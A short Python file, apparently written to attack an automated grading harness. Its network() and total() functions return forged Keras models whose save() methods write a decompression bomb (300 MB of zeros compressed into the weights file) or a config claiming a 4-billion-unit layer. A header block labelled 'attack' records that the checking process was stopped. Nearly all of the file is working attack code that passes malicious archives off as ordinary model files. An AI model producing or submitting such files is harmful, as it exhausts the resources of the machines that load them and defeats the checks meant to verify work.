"""Returns an archive that unpacks to hundreds of times its size, and one with weights for a layer of
billions of units."""

# /// attack
# seen = ['test_total: (TypeError: total\(\) gives something that cannot be checked|Stopped: )', 'test_network: (TypeError: network\(\) gives something that cannot be checked|Stopped: )']
# control = "none: what reading takes is taken from the checking process, whose limits are the student's"
# ///
# %% before total
import zipfile


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    class Forged(type(model)):
        def save(self, path, **kwargs):
            model.save(path)
            with zipfile.ZipFile(path) as archive:
                config = archive.read("config.json")
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("config.json", config)
                archive.writestr("metadata.json", "{}")
                with archive.open("model.weights.h5", "w", force_zip64=True) as member:
                    for _ in range(300):
                        member.write(bytes(1 << 20))

    return Forged(model.layers)


# %% total
def total(numbers):
    model = keras.Sequential([keras.Input((1,)), layers.Dense(1)])

    class Forged(type(model)):
        def save(self, path, **kwargs):
            model.save(path)
            with zipfile.ZipFile(path) as archive:
                members = {name: archive.read(name) for name in archive.namelist()}
            members["config.json"] = members["config.json"].replace(b'"units": 1', b'"units": 4000000000')
            with zipfile.ZipFile(path, "w") as archive:
                for name, data in members.items():
                    archive.writestr(name, data)

    return Forged(model.layers)
